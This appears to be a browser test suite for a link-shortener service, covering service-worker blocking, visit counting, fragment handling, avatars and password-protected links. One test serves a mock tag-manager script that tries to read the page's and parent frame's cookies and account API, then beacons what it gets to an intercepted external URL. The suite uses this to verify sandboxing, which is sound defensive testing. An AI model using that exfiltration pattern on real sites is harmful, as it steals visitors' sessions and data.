import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openBrowser } from '../support/browser.ts';
import { startService } from '../support/service.ts';
import { chrome, createLink, poll, visitPath } from '../support/clicks/visits.ts';
import { servePages } from '../pages/page-server.ts';

const browser = await openBrowser();
const { skip } = browser;
const service = await startService({ environment: { PIXEL_CONSENT: 'off' } });
const account = await service.createAccount();
const elsewhere = await servePages({});
elsewhere.put('target', () => ({ status: 200, headers: { 'Content-Type': 'text/html' }, body: '<p>There' }));
const idOf = async (path: string, body: object): Promise<number> => (await account.post(path, body)).body.id;
const splash = String(await idOf('/api/splash/add', { name: 'Soon', counter: 60 }));

/** Tries to register the script at this path as a service worker; the result or the error's message. */
const register = (path: string) =>
  `navigator.serviceWorker.register(${JSON.stringify(path)}, { scope: '/' }).then(() => 'registered', (error) => error.message)`;

test('no service worker can be registered from a visitor’s page, whatever its policy says', {
  skip,
}, async () => {
  const { alias } = await createLink(account, { type: splash });
  const { alias: script } = await createLink(account, { url: 'https://example.com/worker.js' });
  const paths = [
    `/${script}`,
    `/${alias}`,
    `/${alias}/pixels`,
    `/${alias}/qr.svg`,
    '/sw.js',
    '/robots.txt',
    '/api/account',
  ];
  for (const bypassCSP of [false, true]) {
    const { page } = await browser.newPage({ bypassCSP });
    const answers: string[] = [];
    page.context().on('response', (response) => {
      if (response.request().headers()['service-worker'] === 'script') {
        answers.push(`${new URL(response.url()).pathname} ${response.status()}`);
      }
    });
    await page.goto(`${service.baseUrl}/${alias}`);
    for (const path of paths) {
      const outcome = await page.evaluate<string>(register(path));
      assert.match(outcome, bypassCSP ? /bad HTTP response code \(403\)/ : /Content Security Policy/, path);
    }
    assert.equal(
      await page.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)'),
      0,
    );
    assert.deepEqual(
      answers.filter((answer) => !answer.endsWith(' 403')),
      [],
    );
  }
});

test('a tenant’s pixel beside a page on the dashboard’s host runs, and reaches no session', {
  skip,
}, async () => {
  const pixel = await idOf('/api/pixel/add', { type: 'gtmpixel', name: 'Tags', tag: 'GTM-AB12CD3' });
  const { alias } = await createLink(account, { type: splash, pixels: [pixel] });
  const { page, errors, violations } = await browser.newPage();
  await page.context().addCookies([{ name: 'session', value: 'secret', url: service.baseUrl }]);
  const told: string[] = [];
  await page.route('https://www.googletagmanager.com/**', (route) => {
    const { pathname, search } = new URL(route.request().url());
    if (pathname !== '/gtm.js') {
      told.push(decodeURIComponent(search.slice(1)));
      return route.fulfill({ status: 204 });
    }
    const body = `let reached = origin + ' ' + location.pathname;
try { reached += document.cookie + parent.document.cookie; } catch (error) { reached += ' ' + error.name; }
fetch('/api/account').catch((error) => error.name).then((answer) => {
  new Image().src = 'https://www.googletagmanager.com/told?' + encodeURIComponent(reached + ' ' + answer);
});`;
    return route.fulfill({ contentType: 'text/javascript', body });
  });
  const url = `${service.baseUrl}/${alias}`;
  await page.goto(url);
  await poll('what the script says', async () => told[0]);
  assert.deepEqual(told, [`null /${alias}/pixels SecurityError TypeError`]);
  assert.equal(await page.evaluate('document.cookie'), 'session=secret');
  assert.equal(page.url(), url);
  // The script's own request to the API, which the policy of its frame forbids, is expected.
  assert.deepEqual(
    violations.filter((violation) => !violation.startsWith('connect-src')),
    [],
  );
  assert.ok(
    errors.every((text) => text.includes('/api/account')),
    errors.join('\n'),
  );
});

const overlay = await idOf('/api/overlay/add', {
  type: 'message',
  name: 'Sale',
  settings: { text: 'Our summer sale has begun.' },
});

for (const type of [splash, `overlay-${overlay}`]) {
  test(`going on from a page of type ${type.replace(/\d+/, 'id')} and back to it is one visit`, {
    skip,
  }, async () => {
    const { alias } = await createLink(account, { url: `${elsewhere.origin}/target`, type, clicklimit: 2 });
    const { page } = await browser.newPage({ userAgent: chrome });
    const visit = async () => (await page.goto(`${service.baseUrl}/${alias}`))?.status();
    assert.equal(await visit(), 200);
    for (let times = 0; times < 3; times++) {
      await page.locator('main a.button').click();
      await page.getByText('There').waitFor();
      await page.goBack();
      await page.locator('main a.button').waitFor();
    }
    assert.deepEqual([await visit(), await visit()], [200, 410]);
  });
}

test('a permanent redirect that a page prefetches is a visit when it is followed', { skip }, async () => {
  const target = `${elsewhere.origin}/target`;
  const { alias } = await createLink(account, { url: target, redirect: 301, clicklimit: 1 });
  const url = `${service.baseUrl}/${alias}`;
  const body = `<!doctype html><link rel="prefetch" href="${url}"><a href="${url}">Go</a>`;
  elsewhere.put('from', () => ({ status: 200, headers: { 'Content-Type': 'text/html' }, body }));
  const { page } = await browser.newPage({ userAgent: chrome });
  const prefetched = page.waitForEvent('requestfinished', (request) => request.url() === target);
  await page.goto(`${elsewhere.origin}/from`);
  await prefetched;
  await page.getByText('Go').click();
  await page.getByText('There').waitFor();
  assert.equal((await visitPath(service.baseUrl, `/${alias}`)).status, 410);
});

test('the fragment of a short link reaches its target behind a page as behind a redirect', {
  skip,
}, async () => {
  const url = `${elsewhere.origin}/target`;
  const pixel = await idOf('/api/pixel/add', { type: 'fbpixel', name: 'Ads', tag: '1234567890' });
  const { page, violations } = await browser.newPage({ userAgent: chrome });
  await page.route('https://connect.facebook.net/**', (route) => route.fulfill({ body: '' }));
  const visit = async (body: object) => {
    const { alias } = await createLink(account, { url, ...body });
    await page.goto(`${service.baseUrl}/${alias}#part`);
  };
  const onward = page.locator('main a.button, .ways a').first();
  for (const body of [{}, { pixels: [pixel] }]) {
    await visit(body);
    await page.waitForURL(`${url}#part`);
  }
  for (const type of [splash, `overlay-${overlay}`]) {
    await visit({ type });
    await onward.click();
    await page.waitForURL(`${url}#part`);
    await visit({ type, url: `${url}#own` });
    await onward.click();
    await page.waitForURL(`${url}#own`);
  }
  await visit({ password: 'open sesame' });
  await page.getByLabel('Password').fill('open sesame');
  await page.getByRole('button').click();
  await page.waitForURL(`${url}#part`);
  assert.deepEqual(violations, []);
});

test('a picture from another host that redirects to a third one is shown', { skip }, async () => {
  const third = await servePages({});
  const headers = { Location: `${third.origin}/picture.png` };
  elsewhere.put('avatar', () => ({ status: 302, headers, body: '' }));
  await idOf('/api/bio/add', { alias: 'ada', name: 'Ada', avatar: `${elsewhere.origin}/avatar` });
  const { page, violations } = await browser.newPage({ userAgent: chrome });
  await page.goto(`${service.baseUrl}/@ada`);
  const width = await page.evaluate("document.querySelector('img').naturalWidth");
  assert.deepEqual([width, violations], [1_200, []]);
});

test('who sends the password of a link that has none any more, or is gone, gets what it is now', {
  skip,
}, async () => {
  const { page } = await browser.newPage({ userAgent: chrome });
  const open = async () => {
    const { id, alias } = await createLink(account, {
      url: `${elsewhere.origin}/target`,
      password: 'open sesame',
    });
    await page.goto(`${service.baseUrl}/${alias}`);
    await page.getByLabel('Password').fill('open sesame');
    return `/api/url/${id}`;
  };
  const opened = await open();
  assert.equal((await account.put(`${opened}/update`, { password: '' })).status, 200);
  await page.getByRole('button').click();
  await page.getByText('There').waitFor();
  const gone = await open();
  assert.equal((await account.delete(`${gone}/delete`)).status, 200);
  await page.getByRole('button').click();
  await page.getByRole('heading', { name: 'This link does not exist' }).waitFor();
});
